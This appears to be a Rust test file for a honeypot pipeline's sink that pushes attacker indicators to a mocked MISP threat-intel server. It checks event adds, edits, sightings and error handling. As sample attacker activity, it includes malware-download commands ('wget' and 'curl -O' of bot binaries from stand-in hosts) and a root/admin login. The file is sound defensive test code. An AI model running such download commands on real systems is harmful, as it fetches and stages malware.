//! The `misp` sink against a MISP that wiremock plays from MISP's documented answers
//! (`/events/add`, its `404` "already exists", `/events/edit`, `/sightings/add`, `403`,
//! `429`, `5xx`). Every event it pushes is loaded strictly by PyMISP.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::time::Duration;

use hpti_core::component::{BuildContext, ComponentId, SinkConfig as _};
use hpti_core::error::ErrorClass;
use hpti_core::event::{AuthMethod, Event, EventKind, Protocol, Timestamp};
use hpti_core::metrics::PipelineMetrics;
use hpti_core::secret::Secret;
use hpti_core::sink::Sink;
use hpti_intel::IntelConfig;
use hpti_intel::misp::MispSinkConfig;
use serde_json::{Value, json};
use wiremock::matchers::{header, method, path, path_regex};
use wiremock::{Mock, MockServer, ResponseTemplate};

const KEY: &str = "mIsPk3yF0rTh3T3sTs0nLy0123456789abcdefgh";

async fn sink(server: &MockServer) -> std::sync::Arc<dyn Sink> {
    let config = MispSinkConfig {
        url: format!("{}/", server.uri()),
        key: Some(Secret::new(KEY)),
        key_env: None,
        timeout: Duration::from_secs(5),
        batch_max_events: 100,
        batch_linger: Duration::from_millis(10),
        intel: IntelConfig {
            // Documentation addresses in the tests.
            include_private: true,
            identity: "Example CERT honeynet".into(),
            ..IntelConfig::default()
        },
    };
    let dir = tempfile::tempdir().unwrap();
    let mut registry = prometheus_client::registry::Registry::default();
    let cx = BuildContext::new(
        ComponentId::new("misp").unwrap(),
        dir.path(),
        PipelineMetrics::new(&mut registry),
    );
    config.build(&cx).await.unwrap().sink
}

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_micros(1_795_267_800_000_000 + seconds * 1_000_000)
}

fn session(ip: &str, id: &str, t: i64, commands: &[&str]) -> Vec<Event> {
    let src = ip.parse().unwrap();
    let mut events = vec![
        Event::new("ssh", Protocol::Ssh, src, EventKind::SessionStarted),
        Event::new(
            "ssh",
            Protocol::Ssh,
            src,
            EventKind::LoginAttempt {
                username: "root".into(),
                password: Some("admin".into()),
                key_type: None,
                key_fingerprint: None,
                method: AuthMethod::Password,
                success: true,
            },
        ),
    ];
    for command in commands {
        events.push(Event::new(
            "ssh",
            Protocol::Ssh,
            src,
            EventKind::CommandInput {
                command: (*command).into(),
            },
        ));
    }
    events
        .into_iter()
        .enumerate()
        .map(|(i, e)| {
            e.with_session(id)
                .with_source_port(40000)
                .with_time(at(t + i as i64))
        })
        .collect()
}

async fn mount_misp(server: &MockServer, add_status: u16) {
    let exists = json!({
        "name": "Event already exists, if you would like to edit it, use the url in the location header.",
        "message": "Event already exists, if you would like to edit it, use the url in the location header.",
        "url": "/events/add",
    });
    let add = if add_status == 404 {
        ResponseTemplate::new(404)
            .set_body_json(exists)
            .insert_header("Location", "/events/1")
    } else {
        ResponseTemplate::new(200).set_body_json(json!({"Event": {"id": "1", "info": "x"}}))
    };
    Mock::given(method("POST"))
        .and(path("/events/add"))
        .and(header("Authorization", KEY))
        .and(header("Accept", "application/json"))
        .respond_with(add)
        .mount(server)
        .await;
    Mock::given(method("POST"))
        .and(path_regex("^/events/edit/[0-9a-f-]{36}$"))
        .and(header("Authorization", KEY))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"Event": {"id": "1", "info": "x"}})),
        )
        .mount(server)
        .await;
    Mock::given(method("POST"))
        .and(path("/sightings/add"))
        .and(header("Authorization", KEY))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"Sighting": {
                "id": "7", "attribute_id": "3", "event_id": "1", "org_id": "1",
                "date_sighting": "1795267900", "uuid": "5c1f2e3d-0000-4000-8000-000000000001",
                "source": "Example CERT honeynet", "type": "0"
            }})),
        )
        .mount(server)
        .await;
}

/// The requests MISP received: (path, body).
async fn received(server: &MockServer) -> Vec<(String, Value)> {
    server
        .received_requests()
        .await
        .unwrap()
        .into_iter()
        .map(|r| {
            (
                r.url.path().to_owned(),
                serde_json::from_slice(&r.body).unwrap(),
            )
        })
        .collect()
}

fn values(body: &Value, kind: &str) -> BTreeSet<String> {
    body["Event"]["Attribute"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["type"] == kind)
        .map(|a| a["value"].as_str().unwrap().to_owned())
        .collect()
}

fn attribute_uuids(body: &Value) -> BTreeSet<String> {
    body["Event"]["Attribute"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["uuid"].as_str().unwrap().to_owned())
        .collect()
}

/// Loads every pushed event with PyMISP, strictly (hpti-bin/tests/python/check_misp.py).
fn pymisp_accepts(events: &[&Value]) {
    if !hpti_core::testing::require_python_module("pymisp", "pymisp") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("pushed.json");
    let wrapped: Vec<Value> = events
        .iter()
        .map(|e| json!({"Event": e["Event"]}))
        .collect();
    std::fs::write(&file, json!({ "response": wrapped }).to_string()).unwrap();
    let checker = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../hpti-bin/tests/python/check_misp.py");
    let output = std::process::Command::new("python3")
        .arg(checker)
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "PyMISP: {}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}

#[tokio::test]
async fn new_indicators_are_added_then_edited_in_and_known_ones_sighted() {
    let server = MockServer::start().await;
    mount_misp(&server, 200).await;
    let sink = sink(&server).await;
    let first = session(
        "198.51.100.7",
        "s1",
        0,
        &["cd /tmp; wget http://203.0.113.9/bins/x86"],
    );
    let refs: Vec<&Event> = first.iter().collect();
    sink.write(&refs).await.unwrap();
    // A second session of the same attacker, the same day, with a new URL.
    let second = session(
        "198.51.100.7",
        "s2",
        600,
        &[
            "wget http://203.0.113.9/bins/x86",
            "curl -O http://c2.example/arm7",
        ],
    );
    let refs: Vec<&Event> = second.iter().collect();
    sink.write(&refs).await.unwrap();

    let requests = received(&server).await;
    let paths: Vec<&str> = requests.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(paths.len(), 3, "{paths:?}");
    assert_eq!(paths[0], "/events/add");
    assert!(paths[1].starts_with("/events/edit/"), "{paths:?}");
    assert_eq!(paths[2], "/sightings/add");
    let (added, edited, sighted) = (&requests[0].1, &requests[1].1, &requests[2].1);
    let uuid = added["Event"]["uuid"].as_str().unwrap();
    assert_eq!(
        paths[1],
        format!("/events/edit/{uuid}"),
        "the same day event"
    );
    assert_eq!(
        values(added, "ip-src"),
        BTreeSet::from(["198.51.100.7".to_owned()])
    );
    assert!(values(added, "url").contains("http://203.0.113.9/bins/x86"));
    // The edit carries only what is new; what was pushed before is sighted instead.
    assert!(values(edited, "ip-src").is_empty(), "{edited}");
    assert_eq!(
        values(edited, "url"),
        BTreeSet::from(["http://c2.example/arm7".to_owned()])
    );
    assert!(values(edited, "domain").contains("c2.example"));
    assert!(
        added["Event"].get("timestamp").is_none(),
        "MISP stamps what it stores"
    );
    let sighted_values: BTreeSet<&str> = sighted["values"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(sighted_values.contains("198.51.100.7"), "{sighted}");
    assert!(
        sighted_values.contains("http://203.0.113.9/bins/x86"),
        "{sighted}"
    );
    assert_eq!(sighted["source"], "Example CERT honeynet");
    // One cowrie object per session.
    let objects = |body: &Value| body["Event"]["Object"].as_array().unwrap().len();
    assert_eq!((objects(added), objects(edited)), (1, 1));
    pymisp_accepts(&[added, edited]);

    // After a restart the sink has forgotten what it pushed: MISP says the event exists,
    // the sink edits it, with the very same attribute uuids (an update, not duplicates).
    let again_server = MockServer::start().await;
    mount_misp(&again_server, 404).await;
    let restarted = self::sink(&again_server).await;
    let refs: Vec<&Event> = first.iter().collect();
    restarted.write(&refs).await.unwrap();
    let again = received(&again_server).await;
    let paths: Vec<&str> = again.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        paths,
        ["/events/add".to_owned(), format!("/events/edit/{uuid}")]
    );
    assert_eq!(attribute_uuids(&again[1].1), attribute_uuids(added));
}

#[tokio::test]
async fn misp_errors_are_classified_as_it_documents_them() {
    let events = session("198.51.100.8", "s9", 0, &["uname -a"]);
    let refs: Vec<&Event> = events.iter().collect();
    let cases = [
        (
            ResponseTemplate::new(403).set_body_json(json!({
                "name": "Authentication failed. Please make sure you pass the API key of an API enabled user along in the Authorization header.",
                "message": "Authentication failed. Please make sure you pass the API key of an API enabled user along in the Authorization header.",
                "url": "/events/add"
            })),
            "permanent",
        ),
        (
            ResponseTemplate::new(429)
                .insert_header("Retry-After", "7")
                .set_body_json(json!({"name": "Rate limit exceeded.", "message": "Rate limit exceeded.", "url": "/events/add"})),
            "rate limited 7s",
        ),
        (
            ResponseTemplate::new(500).set_body_string("<html>Internal error</html>"),
            "temporary",
        ),
    ];
    for (response, expected) in cases {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/events/add"))
            .respond_with(response)
            .mount(&server)
            .await;
        let error = sink(&server).await.write(&refs).await.unwrap_err();
        let class = match error.class() {
            ErrorClass::Permanent => "permanent".to_owned(),
            ErrorClass::Temporary => "temporary".to_owned(),
            ErrorClass::RateLimited { retry_after } => {
                format!("rate limited {}s", retry_after.unwrap().as_secs())
            }
            other => format!("{other:?}"),
        };
        assert_eq!(class, expected, "{error}");
        assert!(
            !error.to_string().contains(KEY),
            "the key never shows: {error}"
        );
    }
    // MISP's "Could not add the Sighting" comes with a 200: counted, not an error.
    let server = MockServer::start().await;
    mount_misp(&server, 200).await;
    let sink = sink(&server).await;
    sink.write(&refs).await.unwrap();
    server.reset().await;
    mount_misp(&server, 200).await;
    Mock::given(method("POST"))
        .and(path("/sightings/add"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "message": "Could not add the Sighting. Reason: No valid attributes found that match the criteria."
        })))
        .with_priority(1)
        .mount(&server)
        .await;
    sink.write(&refs).await.unwrap();
}

#[tokio::test]
async fn an_attribute_whose_detection_changes_is_sent_again() {
    let server = MockServer::start().await;
    mount_misp(&server, 200).await;
    let sink = sink(&server).await;
    // First only a connection (a scanner: not for detection), then a login from it.
    let knock = Event::new(
        "ssh",
        Protocol::Ssh,
        "198.51.100.9".parse().unwrap(),
        EventKind::SessionStarted,
    )
    .with_session("k1")
    .with_time(at(0));
    sink.write(&[&knock]).await.unwrap();
    let login = session("198.51.100.9", "k2", 60, &[]);
    let refs: Vec<&Event> = login.iter().collect();
    sink.write(&refs).await.unwrap();
    let requests = received(&server).await;
    let ip = |body: &Value| -> Vec<bool> {
        body["Event"]["Attribute"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["type"] == "ip-src")
            .map(|a| a["to_ids"].as_bool().unwrap())
            .collect()
    };
    assert_eq!(requests[0].0, "/events/add");
    assert_eq!(ip(&requests[0].1), [false]);
    assert!(
        requests[1].0.starts_with("/events/edit/"),
        "{:?}",
        requests[1].0
    );
    assert_eq!(ip(&requests[1].1), [true], "sent again, now for detection");
    assert_eq!(
        attribute_uuids(&requests[0].1)
            .intersection(&attribute_uuids(&requests[1].1))
            .count(),
        1,
        "the same attribute"
    );
    // The address was pushed before: its value is sighted too.
    let sighting = requests
        .iter()
        .find(|(p, _)| p == "/sightings/add")
        .unwrap();
    assert_eq!(sighting.1["values"], json!(["198.51.100.9"]));
}
